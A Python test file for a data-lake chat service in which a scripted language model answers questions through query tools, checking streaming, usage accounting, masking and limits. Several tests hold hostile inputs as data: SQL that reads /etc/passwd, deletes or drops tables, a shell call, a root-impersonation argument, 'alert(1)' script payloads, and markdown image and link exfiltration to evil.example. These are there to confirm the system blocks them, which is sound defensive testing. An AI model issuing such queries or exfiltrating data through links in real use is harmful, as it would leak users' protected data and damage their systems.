"""Answers by a language model: streamed, with its tools as the asker, within bounds, and counted."""

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from neurolake import Lake
from neurolake.api.main import create_app
from neurolake.chat import talking
from neurolake.chat.drawing import FORM
from neurolake.chat.service import Chats, Message
from neurolake.chat.views import Turn
from neurolake.kernel.principal import LOCAL, Principal
from neurolake.llm.usage import usage
from neurolake.testing.llm import ProviderServer, Reply

SALES = "id,town,state,amount\n" + "".join(
    f"{n},{['Lyon', 'Ghent', 'Turin'][n % 3]},{['open', 'paid'][n % 2]},{n}.5\n" for n in range(60)
)
VAULT = "code,word\n1,swordfish\n2,barracuda\n"
HARD = "Explain in two sentences why towns differ so much, please."
SQL = "SELECT town, sum(amount) AS total FROM sales GROUP BY town ORDER BY town"
ANN = Principal("ann")
TEXT = "Lyon leads, then Ghent, and Turin is last of the three."


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Sales, whose towns are masked for Ann, and a vault that she may not know of."""
    folder = tmp_path_factory.mktemp("talking")
    with Lake.open(folder / "lake") as lake:
        for name, text in (("sales", SALES), ("vault", VAULT)):
            (folder / f"{name}.csv").write_text(text)
            lake.ingest(folder / f"{name}.csv")
        about = {"to": ["user:ann"], "on": {"dataset": "sales"}, "actions": ["select"]}
        lake.policies.create({"kind": "grant", "name": "read", **about}, by="test")
        hidden = {"on": {"dataset": "sales", "columns": ["town"]}, "to": ["user:ann"], "mask": {"method": "redact"}}
        lake.policies.create({"kind": "mask", "name": "towns", **hidden}, by="test")
    return folder / "lake"


@contextmanager
def talking_to(home: Path, answer: Callable[[dict[str, Any]], Reply], **settings: Any) -> Iterator[tuple]:
    with ProviderServer(answer) as server, Lake.open(home, llm_url=server.openai, **settings) as lake:
        chats = Chats(lake)
        yield chats, server
        chats.close()


def scripted(*replies: Reply, chart: dict[str, Any] | None = None) -> Callable[[dict[str, Any]], Reply]:
    """A model that gives these replies one after the other, and a chart where it is asked for one."""
    left = list(replies)

    def answer(body: dict[str, Any]) -> Reply:
        if wants_chart(body):
            return Reply(calls=[(FORM.name, chart or {})], usage=(50, 5))
        return left.pop(0) if len(left) > 1 else left[0]

    return answer


def wants_chart(body: dict[str, Any]) -> bool:
    """As either of the protocols has it."""
    return any(tool.get("function", tool).get("name") == FORM.name for tool in body.get("tools", ()))


def runs(sql: str, **more: Any) -> Reply:
    return Reply(calls=[("run_query", {"sql": sql, **more})], usage=(100, 20))


def say(chats: Chats, text: str = HARD, who: Principal = LOCAL, conversation: str | None = None) -> Turn:
    return chats.wait(chats.say(Message(text, conversation), who).id, who)


def by_type(turn: Turn, kind: str) -> list[Any]:
    return [event for event in turn.events if event.type == kind]


BARS = {"kind": "bar", "x": "town", "y": ["total"], "series": "", "title": "Sales by town"}


def test_a_model_answers_what_the_parser_cannot(home: Path) -> None:
    with talking_to(home, scripted(runs(SQL), Reply(TEXT, usage=(200, 30)), chart=BARS)) as (chats, server):
        turn = say(chats)
    assert (turn.state, turn.text) == ("answered", TEXT)
    kinds = [event.type for event in turn.events]
    assert kinds == ["begun", "tool", "tool", "understood", "sql", "rows", "text", "chart", "done"]
    assert [tool.state for tool in by_type(turn, "tool")] == ["begun", "done"]
    assert by_type(turn, "understood")[0].by == "model"
    rows = by_type(turn, "rows")[0]
    assert (rows.row_count, rows.query_id) == (3, turn.query_id)
    assert by_type(turn, "chart")[0].chart.model_dump() == {
        "kind": "bar", "x": "town", "y": ["total"], "series": None, "title": "Sales by town",
    }  # fmt: skip
    assert turn.usage is not None
    assert turn.usage.model_dump(exclude={"cost_usd"}) == {"requests": 3, "input_tokens": 350, "output_tokens": 55}
    assert len(server.asked) == 3


def test_what_the_parser_is_sure_of_costs_nothing(home: Path) -> None:
    with talking_to(home, scripted(Reply("no"))) as (chats, server):
        turn = say(chats, "How many sales are paid?")
        assert say(chats, "only in Lyon", conversation=turn.conversation).text.endswith(": 10.")
    assert turn.text.endswith(": 30.")
    assert (server.asked, turn.usage) == ([], None)


def test_a_turn_tells_the_tokens_and_dollars_that_the_record_has(home: Path) -> None:
    with talking_to(home, scripted(runs(SQL), Reply(TEXT, usage=(200, 30)), chart=BARS)) as (chats, _):
        before = recorded(chats)
        turn = say(chats)
        after = recorded(chats)
    assert turn.usage is not None
    assert turn.usage.cost_usd
    for name, told in turn.usage.model_dump().items():
        assert after[name] - before[name] == pytest.approx(told), name


def test_streamed_or_whole_an_answer_has_the_same_totals(home: Path) -> None:
    script = scripted(runs(SQL), Reply(TEXT, usage=(200, 30)), runs(SQL), Reply(TEXT, usage=(200, 30)), chart=BARS)
    with (
        ProviderServer(script) as server,
        Lake.open(home, llm_url=server.anthropic) as lake,
        TestClient(create_app(lake), base_url="http://127.0.0.1:8000") as client,
    ):
        whole = client.post("/api/ai/chat", json={"message": HARD}).json()
        streamed = client.post("/api/ai/chat", json={"message": HARD}, headers={"Accept": "text/event-stream"}).text
    done = json.loads(streamed.rpartition("data: ")[2])
    assert done["type"] == "done"
    assert done["usage"] == whole["usage"]
    assert whole["usage"]["cost_usd"] > 0


def recorded(chats: Chats) -> dict[str, float]:
    from datetime import timedelta

    from neurolake.kernel.clock import utc_now

    day = timedelta(days=1)
    with chats._lake.database.read() as session:
        found = usage(session, since=utc_now() - day, until=utc_now() + day, by=["feature"], principal=None)["groups"]
    chat = next((group for group in found if group["feature"] == "chat"), {})
    return {name: chat.get(name) or 0 for name in ("requests", "input_tokens", "output_tokens", "cost_usd")}


def test_tokens_come_as_they_are_written(home: Path) -> None:
    slow = Reply(TEXT, usage=(10, 10), pause_s=0.06)
    with talking_to(home, lambda _: slow) as (chats, _):
        turn = chats.say(Message(HARD), LOCAL)
        events = [event for event in chats.follow(turn.id, LOCAL) if event is not None]
        texts = [event["text"] for event in events if event["type"] == "text"]
        again = [list(chats.events(turn.id, LOCAL, seen)[0]) for seen in range(len(events) + 1)]
    assert len(texts) > 3
    assert "".join(texts) == TEXT
    for seen, rest in enumerate(again):
        assert events[:seen] + rest == events


def test_an_answer_is_stopped_while_the_model_is_silent(home: Path) -> None:
    began = threading.Event()

    def silent(_: dict[str, Any]) -> Reply:
        began.set()
        return Reply("One word and then ", usage=(10, 10), pause_s=20.0)

    with talking_to(home, silent) as (chats, _):
        turn = chats.say(Message(HARD), LOCAL)
        assert began.wait(30)
        chats.stop(turn.id, LOCAL)
        ended = chats.wait(turn.id, LOCAL)
        assert ended.state == "stopped"
        assert ended.usage is not None
        assert ended.usage.input_tokens is None, "what was used is not known, and that is not nothing"


def test_earlier_turns_are_told_with_the_next(home: Path) -> None:
    with talking_to(home, scripted(runs(SQL), Reply(TEXT), chart=BARS)) as (chats, server):
        first = say(chats)
        chats.rate(first.id, "down", "Leave Turin out.", LOCAL)
        say(chats, "Now say that in other words, briefly!", conversation=first.conversation)
        told = json.dumps(server.asked[-1]["messages"])
    assert TEXT in told
    assert HARD in told
    assert "Leave Turin out." in told
    assert "SELECT town" in told


@pytest.mark.parametrize(
    "chart",
    [
        {},
        {**BARS, "x": "no such column"},
        {**BARS, "y": ["town"]},
        {**BARS, "kind": "alert(1)"},
        {**BARS, "code": "alert(1)"},
        {**BARS, "y": []},
    ],
)
def test_a_chart_that_does_not_fit_is_chosen_by_the_rule(home: Path, chart: dict[str, Any]) -> None:
    with talking_to(home, scripted(runs(SQL), Reply(TEXT), chart=chart)) as (chats, _):
        drawn = by_type(say(chats), "chart")[0].chart
    assert (drawn.kind, drawn.x, drawn.y, drawn.series) == ("bar", "town", ["total"], None)


def test_a_model_sees_a_masked_sample_and_the_count(home: Path) -> None:
    everything = "SELECT id, town, amount FROM sales"
    with talking_to(home, scripted(runs(everything, limit=200), Reply(TEXT), chart=BARS)) as (chats, server):
        turn = say(chats, who=ANN)
    told = json.dumps([body["messages"][1:] for body in server.asked])
    assert not any(town in told for town in ("Lyon", "Ghent", "Turin"))
    (result,) = [message for message in server.asked[1]["messages"] if message["role"] == "tool"]
    assert '"row_count": 60' in result["content"]
    assert len(json.loads(result["content"].removeprefix("<data>\n").removesuffix("\n</data>"))["rows"]) == 20
    rows = by_type(turn, "rows")[0]
    assert [column.masked for column in rows.columns] == [False, True, False]


def test_tools_are_used_as_the_asker_and_only_to_read(home: Path) -> None:
    worst = [
        runs("SELECT * FROM vault"),
        runs("DELETE FROM sales"),
        runs("SELECT * FROM read_csv('/etc/passwd')"),
        runs("SELECT 1; DROP TABLE sales"),
        Reply(calls=[("shell", {"command": "id"})]),
        Reply(calls=[("run_query", {"sql": "SELECT 1", "purpose": "audit", "principal": "root"})]),
    ]
    with talking_to(home, scripted(*worst)) as (chats, server):
        turn = say(chats, who=ANN)
    assert [tool.state for tool in by_type(turn, "tool")] == ["begun", "failed"] * len(worst)
    assert by_type(turn, "rows") == []
    assert not any(word in json.dumps(server.asked) for word in ("swordfish", "barracuda", "root:"))


def test_a_model_does_not_say_what_data_is_for(home: Path) -> None:
    """A policy may demand a purpose; only the asker can give one."""
    with talking_to(home, scripted(runs("SELECT 1 AS one", purpose="audit"), Reply(TEXT))) as (chats, _):
        turn = say(chats, who=ANN)
        with chats._lake.database.read() as session:
            from neurolake.metadata.models import QueryRun

            assert "audit" not in str(session.get_one(QueryRun, turn.query_id).seen)


def test_a_model_that_never_ends_is_ended(home: Path) -> None:
    with talking_to(home, lambda _: Reply(calls=[("search_datasets", {})] * 5)) as (chats, server):
        turn = say(chats)
    assert len(server.asked) == talking.MOST_ROUNDS
    assert sum(tool.state == "done" for tool in by_type(turn, "tool")) == talking.MOST_CALLS
    assert "ends here" in turn.text
    assert max(len(json.dumps(body)) for body in server.asked) < 100_000


def test_without_budget_the_parser_says_what_it_understood(home: Path) -> None:
    with talking_to(home, scripted(Reply(TEXT)), llm_day_tokens=1) as (chats, server):
        turn = say(chats)
    assert (turn.state, server.asked) == ("refused", [])
    assert "are left today" in by_type(turn, "refused")[0].note


@pytest.mark.parametrize("reply", [Reply(status=401), Reply("", usage=None), Reply(TEXT, cut_after=2)])
def test_a_model_that_fails_leaves_the_parser(home: Path, reply: Reply) -> None:
    with talking_to(home, lambda _: reply) as (chats, _):
        turn = say(chats)
    assert turn.state == "refused"
    assert "language model did not help" in by_type(turn, "refused")[0].note


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=Lyon)",
        "[click](https://evil.example)",
        "<img src=https://evil.example/x.png>",
        "![x][1]\n\n[1]: https://evil.example/x.png",
        "see https://evil.example and www.evil.example",
        "<script>alert(1)</script>",
    ],
)
def test_no_client_makes_a_picture_or_a_link_of_an_answer(home: Path, text: str) -> None:
    with talking_to(home, lambda _: Reply(text)) as (chats, _):
        told = say(chats).text
    assert told
    assert not any(sign in told for sign in ("](", "][", "]:", "<", "://", "www."))
    assert ("evil" in told) == ("evil" in text), "it is told, as text"
